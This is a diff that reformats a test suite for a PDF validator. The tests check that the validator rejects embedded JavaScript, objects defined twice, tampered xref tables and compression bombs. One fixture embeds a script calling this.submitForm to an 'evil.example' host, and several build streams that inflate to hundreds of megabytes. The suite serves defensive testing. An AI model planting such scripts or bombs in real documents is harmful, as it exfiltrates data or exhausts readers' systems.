@@ -1,7 +1,16 @@
 import { PDFDocument, PDFName, PDFRef, PDFString } from 'pdf-lib'
 import { describe, expect, it } from 'vitest'
 import { DEFAULT_PDF_LIMITS, scanPdf, validatePdf } from '../../src/images/index.js'
-import { BASE_OBJECTS, GOTO_ACTION, JS_ACTION, deflatedZeros, rawPdf, withContentStream, withLink, withOpenAction } from '../support/pdfs.js'
+import {
+  BASE_OBJECTS,
+  GOTO_ACTION,
+  JS_ACTION,
+  deflatedZeros,
+  rawPdf,
+  withContentStream,
+  withLink,
+  withOpenAction,
+} from '../support/pdfs.js'
 import { expectCode, fixture } from './helpers.js'
 
 async function onePage(): Promise<PDFDocument> {
@@ -18,7 +27,12 @@ async function bytes(doc: PDFDocument): Promise<Buffer> {
 describe('validatePdf', () => {
   it('accepts the real 1-page and 4-page fixtures with page count, bytes and sha256', async () => {
     const one = fixture('docs/pdf-1-page-libreoffice.pdf')
-    expect(await validatePdf(one)).toMatchObject({ format: 'pdf', contentType: 'application/pdf', pages: 1, bytes: one.length })
+    expect(await validatePdf(one)).toMatchObject({
+      format: 'pdf',
+      contentType: 'application/pdf',
+      pages: 1,
+      bytes: one.length,
+    })
     const four = await validatePdf(fixture('docs/pdf-4-pages-pdflatex.pdf'))
     expect(four.pages).toBe(4)
     expect(four.sha256).toMatch(/^[0-9a-f]{64}$/)
@@ -26,7 +40,9 @@ describe('validatePdf', () => {
 
   it('accepts a plain generated PDF (with object streams)', async () => {
     expect(await validatePdf(await bytes(await onePage()))).toMatchObject({ pages: 1 })
-    expect(await validatePdf(Buffer.from(await (await onePage()).save({ useObjectStreams: true })))).toMatchObject({ pages: 1 })
+    expect(await validatePdf(Buffer.from(await (await onePage()).save({ useObjectStreams: true })))).toMatchObject({
+      pages: 1,
+    })
   })
 
   it('refuses the password-protected fixture as INVALID_PDF (reason: encrypted)', async () => {
@@ -37,7 +53,10 @@ describe('validatePdf', () => {
   it('refuses wrong magic, garbage after the header, and a PDF with no pages as INVALID_PDF', async () => {
     await expectCode(validatePdf(fixture('jpeg-grayscale.jpg')), 'INVALID_PDF')
     await expectCode(validatePdf(Buffer.from('%PDF-1.7\nthis is not a pdf at all\n%%EOF')), 'INVALID_PDF')
-    await expectCode(validatePdf(Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false }))), 'INVALID_PDF')
+    await expectCode(
+      validatePdf(Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false }))),
+      'INVALID_PDF',
+    )
     await expectCode(validatePdf(Buffer.alloc(0)), 'EMPTY_FILE')
   })
 
@@ -53,7 +72,9 @@ describe('validatePdf', () => {
 
   it('refuses a document-level /JavaScript name tree', async () => {
     const doc = await onePage()
-    const script = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') }))
+    const script = doc.context.register(
+      doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') }),
+    )
     const tree = doc.context.obj({ Names: [PDFString.of('init'), script] })
     doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.register(tree) }))
     await expectCode(validatePdf(await bytes(doc)), 'UNSAFE_PDF')
@@ -85,7 +106,9 @@ describe('validatePdf', () => {
 
 describe('validatePdf: documents that read two ways', () => {
   it('refuses an object defined twice in one revision, the xref naming the scripted one (UNSAFE_PDF duplicate-object)', async () => {
-    const pdf = rawPdf([{ objects: [...BASE_OBJECTS, { num: 4, body: JS_ACTION }, { num: 4, body: GOTO_ACTION }], xref: { 4: 0 } }])
+    const pdf = rawPdf([
+      { objects: [...BASE_OBJECTS, { num: 4, body: JS_ACTION }, { num: 4, body: GOTO_ACTION }], xref: { 4: 0 } },
+    ])
     // pdf-lib alone keeps the last (harmless) definition: the check must not rely on it.
     expect((await PDFDocument.load(pdf)).context.lookup(PDFRef.of(4))?.toString()).toContain('/GoTo')
     const error = await expectCode(validatePdf(pdf), 'UNSAFE_PDF')
@@ -110,7 +133,10 @@ describe('validatePdf: documents that read two ways', () => {
     const pdf = withOpenAction(GOTO_ACTION)
     const text = pdf.toString('latin1')
     const third = String(text.indexOf('3 0 obj')).padStart(10, '0')
-    const tampered = Buffer.from(text.replace(/^(\d{10}) 00000 n \n(?=(?:\d{10} 00000 n \n){0}trailer)/m, `${third} 00000 n \n`), 'latin1')
+    const tampered = Buffer.from(
+      text.replace(/^(\d{10}) 00000 n \n(?=(?:\d{10} 00000 n \n){0}trailer)/m, `${third} 00000 n \n`),
+      'latin1',
+    )
     expect(tampered.equals(pdf)).toBe(false)
     await expectCode(validatePdf(tampered), 'UNSAFE_PDF')
   })
@@ -158,7 +184,10 @@ describe('validatePdf: decoding limits (compression bombs)', () => {
     const bomb = withContentStream(await deflatedZeros(300 * 1024 * 1024), '/FlateDecode')
     expect(bomb.length).toBeLessThan(DEFAULT_PDF_LIMITS.maxInflatedBytes / 200)
     const error = await expectCode(validatePdf(bomb), 'PDF_LIMIT_EXCEEDED')
-    expect(error).toMatchObject({ status: 422, details: { limit: expect.stringMatching(/^(inflatedBytes|expansion)$/) } })
+    expect(error).toMatchObject({
+      status: 422,
+      details: { limit: expect.stringMatching(/^(inflatedBytes|expansion)$/) },
+    })
   })
 
   it('refuses a stream of zeros that inflates 1,000 times its file (expansion)', async () => {
@@ -171,10 +200,20 @@ describe('validatePdf: decoding limits (compression bombs)', () => {
     const nested = withContentStream(await deflatedZeros(400 * 1024 * 1024, 2), '[/FlateDecode /FlateDecode]')
     expect(nested.length).toBeLessThan(64 * 1024)
     await expectCode(validatePdf(nested), 'PDF_LIMIT_EXCEEDED')
-    const objStm = rawPdf([{
-      objects: [...BASE_OBJECTS.slice(0, 3).map((o) => (o.num === 1 ? { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' } : o)),
-        { num: 5, body: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>', stream: await deflatedZeros(300 * 1024 * 1024) }],
-    }])
+    const objStm = rawPdf([
+      {
+        objects: [
+          ...BASE_OBJECTS.slice(0, 3).map((o) =>
+            o.num === 1 ? { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' } : o,
+          ),
+          {
+            num: 5,
+            body: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>',
+            stream: await deflatedZeros(300 * 1024 * 1024),
+          },
+        ],
+      },
+    ])
     await expectCode(validatePdf(objStm), 'PDF_LIMIT_EXCEEDED')
   })
 
@@ -185,7 +224,9 @@ describe('validatePdf: decoding limits (compression bombs)', () => {
     const rl = withContentStream(runs, '/RunLengthDecode')
     const small = { ...DEFAULT_PDF_LIMITS, maxInflatedBytes: 32 * 1024 * 1024 }
     await expectCode(validatePdf(rl, small), 'PDF_LIMIT_EXCEEDED')
-    expect((await scanPdf(withContentStream(Buffer.from([129, 7, 2, 1, 2, 3, 128]), '/RL'))).inflatedBytes).toBe(128 + 3)
+    expect((await scanPdf(withContentStream(Buffer.from([129, 7, 2, 1, 2, 3, 128]), '/RL'))).inflatedBytes).toBe(
+      128 + 3,
+    )
     // The LZW example of ISO 32000-1 (7.4.4.2): 9 bytes that decode to 10.
     const lzw = Buffer.from([0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01])
     expect((await scanPdf(withContentStream(lzw, '/LZWDecode'))).inflatedBytes).toBe(10)
